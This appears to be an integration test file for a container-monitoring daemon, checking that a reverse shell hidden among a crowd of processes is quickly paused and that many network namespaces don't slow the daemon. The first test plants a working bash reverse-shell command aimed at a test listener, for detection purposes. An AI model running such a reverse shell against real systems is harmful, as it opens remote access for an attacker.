// Goal: who hides in a crowd (of processes, network namespaces, descriptors) is seen as soon as anybody else, or the
// crowd itself is told; and a crowd in one session delays nobody's answer from coid.
// Method: real containers under a coid of their own. The crowds end with their containers.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Sampler } from '../../src/daemon/monitor/sampler.ts';
import { Allowance, atOnce, threadTime } from '../../src/host/proc/allowance.ts';
import type { AuditRecord } from '../../src/monitor/audit.ts';
import { defaultSettings, type MonitorSettings } from '../../src/monitor/settings.ts';
import { pace } from '../bed/pace.ts';
import { type CoidBed, coidBed } from '../incus/coid-bed.ts';
import { attacker } from './attacker.ts';
import { untilAudited } from './audited.ts';

const limit = { timeout: 240_000 };
/** The detector of fork bombs is another matter, and sees crowds of thousands. */
const noBomb = { processes: 50_000, killGraceMs: 120_000 } as const;

function watched(settings: Partial<MonitorSettings> = {}) {
  return { 'user.coi.monitor': JSON.stringify({ ...defaultSettings, ...noBomb, ...settings }) };
}

/** Runs it away from the exec that starts it. */
function plant({ sh }: CoidBed, container: string, command: string, user?: 'root') {
  return sh(container, `setsid sh -c '${command}' >/dev/null 2>&1 </dev/null &`, user);
}

async function records(bed: CoidBed, container: string): Promise<AuditRecord[]> {
  const { lines } = await bed.coid.audit(container, { after: 0, waitMs: 0 });
  return lines.map((line) => JSON.parse(line));
}

function untilWatched({ coid }: CoidBed, container: string): Promise<unknown> {
  return untilAudited(coid, container, ({ action }) => action === 'watch-started');
}

/** Ends when there are that many. */
const sleepers = (count: number) =>
  `for i in $(seq ${count}); do sleep 3600 >/dev/null 2>&1 </dev/null & done`;
/** Namespaces with sockets of both kinds: the first look into one walks the host's whole table of connections. */
const namespaces = (count: number) =>
  `for i in $(seq ${count}); do unshare -n sh -c "nc -l -p 5000 & exec nc -lu -p 5000" >/dev/null 2>&1 </dev/null & done`;

test(
  'a reverse shell behind a crowd of older processes is paused as soon as any',
  limit,
  async () => {
    await using bed = await coidBed();
    await using remote = await attacker();
    const { container, nic } = await bed.session({ config: watched() });
    await untilWatched(bed, container);
    await bed.sh(container, sleepers(1300));
    await plant(bed, container, `bash -c "bash -i >& /dev/tcp/${nic.gateway}/${remote.port} 0>&1"`);
    await remote.connected;
    const started = performance.now();
    await bed.lifecycle.until('instance-paused', container);
    const tookMs = performance.now() - started;
    assert.ok(tookMs < 4000 * (await pace()), `paused after ${Math.round(tookMs)} ms`);
    const paused = (await records(bed, container)).filter(({ action }) => action === 'paused');
    assert.match(paused.map(({ title }) => title).join(), /Reverse shell/i);
  },
);

test(
  'a crowd of network namespaces delays no answer of coid and is told; a heavy load is not',
  limit,
  async () => {
    await using bed = await coidBed();
    const { container } = await bed.session({ config: watched({ pauseOnHigh: false }) });
    await untilWatched(bed, container);
    // As much as forty containers of Docker and a large build.
    await bed.sh(container, namespaces(40), 'root');
    await bed.sh(container, sleepers(1200));
    // Each takes a look of its own: the first ones have the most to do, and what they leave for too long would be told by the
    // later ones.
    for (let port = 6000; port < 6008; port += 1) {
      const tookMs = await untilListed(bed, container, port);
      assert.ok(tookMs < 5000 * (await pace()), `port ${port} after ${Math.round(tookMs)} ms`);
    }
    assert.deepEqual(
      (await records(bed, container)).filter(
        ({ level }) => level === 'high' || level === 'critical',
      ),
      [],
    );
    await bed.sh(container, namespaces(300), 'root');
    const slowestMs = await slowestAnswer(bed);
    assert.ok(slowestMs < 1000 * (await pace()), `slowest answer: ${Math.round(slowestMs)} ms`);
    await untilAudited(bed.coid, container, ({ title }) => title === 'Too much to look at');
    // The control: without its limits one look takes so long that everybody waits.
    const { pid } = await bed.incus.instanceState(container);
    const [limited, unlimited] = [lookMs(container, pid, 1), lookMs(container, pid, 1000)];
    assert.ok(limited < 300 && unlimited > 3 * limited, `${limited} and ${unlimited} ms`);
  },
);

/** How long it takes until a new listener is written down. */
async function untilListed(bed: CoidBed, container: string, port: number): Promise<number> {
  await plant(bed, container, `nc -lk -p ${port}`);
  const startedMs = performance.now();
  const wanted = `port ${port}.`;
  await untilAudited(bed.coid, container, ({ description }) => description.endsWith(wanted));
  return performance.now() - startedMs;
}

async function slowestAnswer({ coid }: CoidBed): Promise<number> {
  let slowestMs = 0;
  for (let asked = 0; asked < 100; asked += 1) {
    const startedMs = performance.now();
    await coid.status();
    slowestMs = Math.max(slowestMs, performance.now() - startedMs);
  }
  return slowestMs;
}

/** Processor time of the first look of a new watcher, with its limits stretched. */
function lookMs(name: string, initPid: number, factor: number): number {
  const sampler = Sampler.of(
    {
      name,
      initPid,
      hostName: 'lo',
      address: '',
      gateway: '10.0.0.1',
      bridge: { address: '10.0.0.1', bits: 24 },
      network: 'open',
    },
    { now: () => new Date(), elapsedMs: () => performance.now() },
  );
  const startedMs = threadTime();
  assert.ok(sampler && atOnce(sampler.sample(new Allowance(threadTime, factor))));
  return threadTime() - startedMs;
}
